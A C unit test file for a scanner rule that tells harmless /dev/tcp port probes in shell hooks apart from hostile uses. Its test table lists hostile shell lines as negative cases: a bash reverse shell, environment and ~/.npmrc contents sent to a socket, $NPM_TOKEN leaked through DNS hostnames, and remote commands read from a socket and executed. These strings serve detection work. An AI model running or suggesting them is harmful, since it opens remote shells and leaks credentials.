/* scanner/rule/hook_port.h: when a shell only asks whether a port answers. */
#include "test.h"

#include "base/buf.h"
#include "scanner/rule/hook_port.h"

static void test_rows(void **state)
{
	static const struct {
		const char *command;
		bool asks;
	} rows[] = {
		{"(echo > /dev/tcp/$host/$port) >/dev/null 2>&1", true},
		{"(echo >\"/dev/tcp/$host/$port\") 2>/dev/null", true},
		{"until : > /dev/tcp/db/5432; do sleep 1; done", true},
		{"if true </dev/tcp/db/5432; then echo up; fi", true},
		{"bash -c 'cat < /dev/null > /dev/tcp/db/5432'", true},
		{"sleep 1\necho > /dev/tcp/db/5432", true},
		{"(exec 3<>/dev/tcp/db/5432) 2>/dev/null", true},
		{"exec 3<>/dev/tcp/db/5432; exec 3>&-; exec 3<&-; echo up >&2", true},
		{"exec 3<>/dev/tcp/a/1; cat <&3 | sh", false},
		{"exec 3<>/dev/tcp/a/1; env >&3", false},
		{"exec 3<>/dev/tcp/a/1; env >&$fd", false},
		{"exec 12<>/dev/tcp/a/1; env >&12", false},
		{"exec 3<>/dev/tcp/a/1; env > /dev/fd/3", false},
		{"exec 3<>/dev/tcp/a/1; read -u 3 line; $line", false},
		{"exec 3<>/dev/tcp/a/1; mapfile -t lines", false},
		{"exec {fd}<>/dev/tcp/a/1", false},
		{"exec 1>/dev/tcp/a/1", false},
		{"exec 0</dev/tcp/a/1", false},
		{"exec </dev/tcp/a/1", false},
		{"bash -i >& /dev/tcp/a/1 0>&1", false},
		{"env > /dev/tcp/a/1", false},
		{"echo $(env) > /dev/tcp/a/1", false},
		{"cat ~/.npmrc; myecho > /dev/tcp/a/1", false},
		{"echo /dev/tcp/a/1", false},
		{"(echo > /dev/tcp/a/1); env > /dev/tcp/a/1", false},
		{"echo > /dev/tcp/a/1 2>/dev/null", true},
		{"echo > /dev/tcp/${HOST:-db.local}/5432; env", true},
		{"echo > /dev/tcp/a/1 \"$(env)\"", false},
		{"echo > /dev/tcp/a/1 2>/dev/null \"$(env)\"", false},
		{"cat </dev/null > /dev/tcp/a/1 ~/.npmrc", false},
		{"cat </dev/null > /dev/tcp/a/1 <<<$(env)", false},
		{"(echo > /dev/tcp/$(hostname).x.example.com/80)", false},
		{"(echo > /dev/tcp/$NPM_TOKEN.x.example.com/80)", false},
		{"env | xargs \\\n echo > /dev/tcp/a/1", false},
		{"exec 5<>/dev/tcp/a/1; while read -ru5 l; do $l; done; exec 5>&-", false},
		{"exec 5<>/dev/tcp/a/1; node run.js", false},
		{"(exec 5<>/dev/tcp/a/1; node run.js)", false},
		{"exec 5<>/dev/tcp/a/1; . /dev/f*/5; exec 5>&-", false},
		{"echo hello", false},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
		if (hook_only_asks_ports(text_of(rows[i].command)) != rows[i].asks)
			fail_msg("%s", rows[i].command);
}

static bool asks(unsigned ports)
{
	struct buf b = BUF(1 << 16);

	for (unsigned i = 0; i < ports; i++)
		buf_printf(&b, "echo > /dev/tcp/db/%u\n", i);
	bool only = hook_only_asks_ports(buf_view(&b));
	buf_free(&b);
	return only;
}

static void test_ports(void **state)
{
	(void)state;
	assert_true(asks(HOOK_PORTS));
	assert_false(asks(HOOK_PORTS + 1));
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_rows), cmocka_unit_test(test_ports)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
